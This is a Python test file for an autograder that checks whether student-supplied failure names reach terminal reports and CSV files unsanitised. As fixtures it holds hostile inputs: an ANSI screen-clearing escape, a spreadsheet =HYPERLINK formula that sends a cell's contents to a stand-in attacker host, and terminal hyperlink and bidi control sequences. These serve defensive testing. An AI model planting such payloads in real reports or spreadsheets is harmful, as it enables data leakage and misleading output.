"""Reports are data, not commands (issue 9, hole 8).

Before: a failure `kind` chosen by the student became the mistake name, so raw ANSI escapes reached
`grader report`'s terminal table and `=HYPERLINK(...)` formulas reached summary.csv; a `grade_id` that is a
list made a submission NOT GRADED on every run while the log still said "graded 33".
"""
import copy
import csv
import json
import re
from pathlib import Path
from types import SimpleNamespace

import pytest

import adversarial
from grader.config import Course
from grader.pipeline.autograde import autograde, metadata_problem
from grader.pipeline.gradebook import Gradebook
from grader.pipeline.report import csv_cell, known_mistakes, mistake_name, report, terminal_text

ANSI = "\x1b[2J\x1b[1;31mPWNED\x1b[0m"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\u200e\u200f\u202a-\u202e]")


def graded(student, lesson, problem, exercises):
    rows = [SimpleNamespace(exercise=name, points=points, max_points=2.0,
                            result={"passed": mistake is None, "mistake": mistake, "diagnosis": "", "lines": []})
            for name, points, mistake in exercises]
    return SimpleNamespace(student=student, lesson=lesson, sha256="0" * 64, problem=problem, exercises=rows,
                           score=sum(r.points for r in rows), max_score=2.0 * len(rows))


@pytest.fixture
def course(tmp_path):
    course = Course(source=adversarial.SOURCE, release=tmp_path / "release", specs=adversarial.FIXTURE / "lessons",
                    course_dir=tmp_path / "course")
    with Gradebook(course.gradebook) as book:
        book.record(graded("alice", "fx01_basics", "", [("relu", 2.0, None), ("mse", 0.0, "not_implemented")]), "d")
        book.record(graded("@bob", "fx01_basics", f"{ANSI} the notebook {FORMULA}",
                           [("relu", 0.0, ANSI), ("mse", 0.0, FORMULA)]), "d")
        book.record(graded("carol", "fx01_basics", "", [("relu", 0.0, "Not Implemented"), ("mse", 0.0, "mismatch")]), "d")
    return course


def test_mistake_names_come_only_from_the_graders_own_keys(course):
    lines = []
    paths = report(course, log=lines.append)
    with open(paths["summary"]) as f:
        summary = {row["exercise"]: row["mistakes"] for row in csv.DictReader(f)}
    assert summary == {"relu": "other: 2", "mse": "other: 1; not_implemented: 1; mismatch: 1"}
    table = "\n".join(lines[:lines.index("3 graded submission(s); 1 with a problem for the whole notebook")])
    assert "PWNED" not in table and "HYPERLINK" not in table
    assert re.search(r"fx01_basics/relu\s+0\.67 / 2 +1/3 +other: 2", table), table


def test_terminal_output_has_no_control_characters(course):
    lines = []
    report(course, log=lines.append)
    assert not any(CONTROL.search(line) for line in lines), [line for line in lines if CONTROL.search(line)]
    assert any(line.startswith("  @bob/fx01_basics: PWNED the notebook =HYPERLINK") for line in lines), lines
    assert "3 graded submission(s); 1 with a problem for the whole notebook" in lines


def test_csv_cells_that_look_like_formulas_are_neutralised(course):
    paths = report(course, log=lambda *a: None)
    with open(paths["grades"]) as f:
        rows = list(csv.reader(f))
    assert [r[0] for r in rows[1:]] == ["'@bob", "alice", "carol"]
    assert rows[1][1:] == ["0.0", "0.0"]
    for cell in [csv_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1")]:
        assert cell.startswith("'")
    assert csv_cell("alice") == "alice" and csv_cell(-1.0) == -1.0


def test_known_mistakes_are_the_checks_own_vocabulary():
    keys = known_mistakes()
    for key in ("not_implemented", "uses_reference", "exception", "timeout", "output_flood", "crashed", "missing",
                "mismatch", "not_graded", "transposed", "swapped"):
        assert key in keys, key
    assert all(re.fullmatch(r"[a-z][a-z0-9_]*", k) for k in keys)
    assert mistake_name("\x1b[31mred") == "other" and mistake_name("you_failed_lol") == "other"
    assert mistake_name(["exception"]) == "other" and mistake_name("exception") == "exception"
    assert terminal_text("a\x1b]8;;http://x\x07link\x1b]8;;\x07\u202eb\x07") == "alinkb"


def test_a_course_lessons_own_mistake_keys_are_known(tmp_path):
    (tmp_path / "fx09.py").write_text(
        "from grader.checks.diagnose import Mistake\nfrom grader.lesson import Exercise, Lesson\n"
        "LESSON = Lesson('fx09', [Exercise('x', 'f', 1, lambda rng, hidden: [], 'plain', [],\n"
        "    [Mistake('halved_twice', 'you divided by 2 twice', None)])])\n")
    assert "halved_twice" in known_mistakes(tmp_path) and "halved_twice" not in known_mistakes()
    assert mistake_name("halved_twice", tmp_path) == "halved_twice" and mistake_name("halved_twice") == "other"


def damaged(grade_id) -> dict:
    nb = copy.deepcopy(adversarial.load())
    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "relu_impl")
    cell["metadata"]["nbgrader"]["grade_id"] = grade_id
    return nb


@pytest.mark.parametrize("grade_id,kind", [(["relu_impl", "x"], "list"), ({"a": 1}, "dict"), (7, "int")])
def test_a_malformed_grade_id_is_named(tmp_path, grade_id, kind):
    path = tmp_path / "nb.ipynb"
    path.write_text(json.dumps(damaged(grade_id)))
    problem = metadata_problem(path)
    assert re.fullmatch(rf"cell \d+: its nbgrader grade_id is a {kind} \(.+\), not a text", problem), problem
    path.write_text(json.dumps(adversarial.load()))
    assert metadata_problem(path) == ""


@pytest.mark.slow
def test_malformed_metadata_is_a_per_submission_error_and_the_counts_say_so(tmp_path):
    course = Course(source=adversarial.SOURCE, release=tmp_path / "release", specs=adversarial.FIXTURE / "lessons",
                    course_dir=tmp_path / "course")
    for student, nb in {"alice": adversarial.load(), "mallory": damaged(["relu_impl", "x"]),
                        "trent": damaged({"id": "relu_impl"})}.items():
        (course.submitted / student).mkdir(parents=True)
        (course.submitted / student / "fx01_basics.ipynb").write_text(json.dumps(nb))
    lines = []
    counts = autograde(course, workers=2, progress=False, log=lines.append)
    assert (counts["graded"], counts["failed"]) == (1, 2)
    text = "\n".join(lines)
    assert "NOT GRADED (retried on the next run): mallory/fx01_basics: the notebook's nbgrader metadata is damaged, " \
           "cell" in text and "grade_id is a list (['relu_impl', 'x'])" in text
    assert "trent/fx01_basics" in text and "grade_id is a dict" in text
    assert re.search(r"^graded 1 submission\(s\), 2 NOT GRADED", text, re.M), text
    with Gradebook(course.gradebook) as book:
        assert {(s["student"], s["score"]) for s in book.submissions()} == {("alice", 5.0)}
